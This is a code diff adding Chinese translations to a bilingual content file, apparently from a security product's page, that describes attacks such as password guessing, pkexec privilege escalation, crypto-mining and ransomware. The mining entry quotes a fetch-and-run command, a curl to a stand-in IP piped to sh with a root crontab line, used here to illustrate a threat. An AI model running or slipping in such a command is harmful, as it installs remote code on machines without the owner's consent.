@@ -161,7 +161,10 @@ const attacks: AttacksBlock = {
     {
       id: "guess",
       name: { en: "Guessing a password", zh: "暴力破解" },
-      request: "sshd: Failed password × 3,140, then Accepted password for deploy",
+      request: {
+        en: "sshd: Failed password × 3,140, then Accepted password for deploy",
+        zh: "sshd：Failed password × 3,140，随后 deploy 登录成功",
+      },
       without: {
         en: "The 3,141st try is a login like any other. It is found months later, if the log still exists.",
         zh: "第 3,141 次就是一次普通登录，几个月后才被发现，前提是日志还在。",
@@ -231,7 +234,10 @@ const attacks: AttacksBlock = {
     {
       id: "root",
       name: { en: "Becoming root", zh: "本地提权" },
-      request: "pkexec with an empty argument list (CVE-2021-4034)",
+      request: {
+        en: "pkexec with an empty argument list (CVE-2021-4034)",
+        zh: "pkexec 以空参数表启动（CVE-2021-4034）",
+      },
       without: {
         en: "From the web server's account to every file of the machine.",
         zh: "从 Web 账户变成整台机器的主人。",
@@ -279,7 +285,10 @@ const attacks: AttacksBlock = {
     {
       id: "miner",
       name: { en: "Mining", zh: "挖矿" },
-      request: "curl -s http://198.51.100.9/x.sh | sh, and a line in root's crontab",
+      request: {
+        en: "curl -s http://198.51.100.9/x.sh | sh, and a line in root's crontab",
+        zh: "curl -s http://198.51.100.9/x.sh | sh，并写入 root 的 crontab",
+      },
       without: {
         en: "The server is slow, the bill grows; killing the process helps until the next full minute.",
         zh: "服务器变慢、费用上涨，杀掉进程，下一分钟又起来。",
@@ -302,7 +311,7 @@ const attacks: AttacksBlock = {
     {
       id: "ransom",
       name: { en: "Encrypting", zh: "勒索加密" },
-      request: "one process rewrites 600 documents in ten seconds",
+      request: { en: "one process rewrites 600 documents in ten seconds", zh: "一个进程十秒内改写 600 份文档" },
       without: {
         en: "In the morning there is a text file with an address for payment.",
         zh: "早上只剩一个写着付款地址的文本文件。",
